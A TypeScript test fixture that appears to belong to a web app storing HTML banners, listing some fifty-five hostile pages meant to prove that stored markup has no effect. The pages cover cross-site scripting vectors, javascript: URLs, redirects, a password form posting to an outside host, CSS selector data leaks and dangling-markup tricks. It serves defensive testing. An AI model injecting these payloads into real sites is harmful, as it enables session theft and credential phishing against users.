import { base64, evil, evilPage, outside } from './canary.ts'

/** Hostile html pages. A banner may be html, so they are stored, but must have no effect. */
export const hostilePages: Record<string, string> = {
  'a script': page(`<script>${evil}</script>`),
  'a script from outside': page(`<script src="${outside}/a.js"></script>`),
  'a script of data': page(
    `<script src="data:text/javascript,${encodeURIComponent(evil)}"></script>`,
  ),
  'a script that is a module': page(`<script type="module">${evil}</script>`),
  'a script without a page': `<script>${evil}</script>`,
  'a script that is not closed': `<p>банер<script>${evil}`,
  'a script in a drawing': page(`<svg onload="${evil}"><script>${evil}</script></svg>`),
  'a script in MathML': page(
    `<math href="javascript:${evil}"><mtext><script>${evil}</script></mtext></math>`,
  ),
  'a script in a shadow': page(
    `<div><template shadowrootmode="open"><script>${evil}</script></template></div>`,
  ),
  'a script for who runs none': page(
    `<noscript><p title="</noscript><script>${evil}</script>">а</p></noscript>`,
  ),
  'a script of rules to prefetch': page(
    `<script type="speculationrules">{"prefetch":[{"urls":["${outside}/"]}]}</script>`,
  ),
  'a service worker': page(`<script>navigator.serviceWorker.register('/media/evil.js')</script>`),
  'a picture that fails': page(`<img src="x:x" onerror="${evil}">`),
  'a body with handlers': `<body onload="${evil}" onpageshow="${evil}" onfocus="${evil}">банер</body>`,
  'an input that takes the focus': page(`<input autofocus onfocus="${evil}">`),
  'details and a marquee': page(
    `<details open ontoggle="${evil}"><summary>а</summary></details><marquee onstart="${evil}">б</marquee>`,
  ),
  'a video that fails': page(
    `<video><source src="x:x" onerror="${evil}"></video><audio src="x:x" onerror="${evil}">`,
  ),
  'an animation with a handler': page(
    `<style>@keyframes a{to{opacity:0}}p{animation:a 1ms}</style><p onanimationstart="${evil}">а</p>`,
  ),
  'a frame with a script': page(`<iframe src="javascript:${evil}"></iframe>`),
  'a frame with a page of its own': page(
    `<iframe srcdoc="&lt;script&gt;${evil}&lt;/script&gt;"></iframe>`,
  ),
  'a frame with a page of data': page(`<iframe src="${evilPage}"></iframe>`),
  'a frame from outside': page(`<iframe src="${outside}/"></iframe>`),
  'a frame of ours': page('<iframe src="/"></iframe>'),
  frames: `<frameset><frame src="javascript:parent.document.title='evil'"><frame src="${outside}/"></frameset>`,
  'an object, an embed and an applet': page(
    `<object data="${outside}/a.swf"></object><embed src="${outside}/a.swf"><applet code="evil"></applet>`,
  ),
  'an object of data': page(
    `<object data="${evilPage}"></object><embed src="data:image/svg+xml;base64,${base64('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>')}">`,
  ),
  'a form that asks for a password': page(
    `<form action="${outside}/" method="post"><input name="password" type="password" autofocus><button>Вход</button></form>`,
  ),
  'a form that sends itself': page(
    `<form id="f" action="${outside}/"><input name="a" value="b"></form><script>document.forms[0].submit()</script>`,
  ),
  'a button that is a picture': page(
    `<form action="${outside}/"><input type="image" src="${outside}/a.png"></form>`,
  ),
  'a page that goes elsewhere': page(`<meta http-equiv="refresh" content="0;url=${outside}/">`),
  'a page that goes to a script': page(
    `<meta http-equiv="refresh" content="0;url=javascript:${evil}">`,
  ),
  'a page that goes to data': page(`<meta http-equiv="refresh" content="0;url=${evilPage}">`),
  'a script that goes elsewhere': page(
    `<script>top.location='${outside}/';window.open('${outside}/')</script>`,
  ),
  'another base': page(`<base href="${outside}/"><img src="a.png">`),
  'a policy of its own': page(
    `<meta http-equiv="Content-Security-Policy" content="default-src * 'unsafe-inline'"><script>${evil}</script>`,
  ),
  'a cookie by its head': page('<meta http-equiv="Set-Cookie" content="evil=1">'),
  'style sheets from outside': page(
    `<link rel="stylesheet" href="${outside}/a.css"><style>@import url("${outside}/b.css");</style>`,
  ),
  'pictures of styles from outside': page(
    `<style>body{background:url(${outside}/a.png)}p{cursor:url(${outside}/a.cur),auto;list-style:url(${outside}/b.png)}</style>`,
  ),
  'a font from outside': page(
    `<style>@font-face{font-family:e;src:url(${outside}/a.woff2)}p{font-family:e}</style>`,
  ),
  'an address by an expression': page(
    `<p style="width:expression(evil());behavior:url(${outside}/a.htc)">а</p>`,
  ),
  'what reads a form by selectors': page(
    `<style>input[value^="a"]{background:url(${outside}/a)}</style><input value="abc">`,
  ),
  'things fetched ahead': page(
    `<link rel="prefetch" href="${outside}/a"><link rel="preload" as="image" href="${outside}/b"><link rel="modulepreload" href="${outside}/c.js"><link rel="prerender" href="${outside}/d">`,
  ),
  'pictures from outside': page(
    `<img src="${outside}/a.png" srcset="${outside}/b.png 2x"><picture><source srcset="${outside}/c.png"><img src="${outside}/d.png"></picture>`,
  ),
  'an open end that swallows the page': `<p>банер</p><img src='${outside}/?`,
  'video and its words from outside': page(
    `<video src="${outside}/a.mp4" poster="${outside}/a.png" autoplay><track src="${outside}/a.vtt" default></video>`,
  ),
  'a manifest and an icon from outside': `<html manifest="${outside}/a"><link rel="manifest" href="${outside}/b"><link rel="icon" href="${outside}/c.png"><p>банер</p></html>`,
  'links that run and tell': page(
    `<a href="javascript:${evil}">а</a><a href="${outside}/" ping="${outside}/ping" target="_top">б</a><a href="/media/evil.exe" download>в</a>`,
  ),
  'a portal and a fenced frame': page(
    `<portal src="${outside}/"></portal><fencedframe src="${outside}/"></fencedframe>`,
  ),
  'comments with conditions': page(
    `<!--[if IE]><script>${evil}</script><![endif]--><!--><script>${evil}</script>-->`,
  ),
  'a tag that is broken by a line': page(
    `<img\nsrc\n=x:x\nonerror\n=\n"${evil}"\n><ScRiPt\n>${evil}</sCrIpT\t\n>`,
  ),
  'characters of UTF-7': page('+ADw-script+AD4-alert(1)+ADw-/script+AD4-'),
  'a head of a GIF': `GIF89a/*<script>*/=0;${evil}//</script>`,
  'a head of a PDF': `%PDF-1.4 <script>${evil}</script>`,
  'no more than a script': evil,
  'a byte order mark': `\uFEFF<!doctype html><script>${evil}</script>`,
}

function page(content: string): string {
  return `<!doctype html><html lang="bg"><head><meta charset="utf-8"><title>банер</title></head><body><p>банер</p>${content}</body></html>`
}
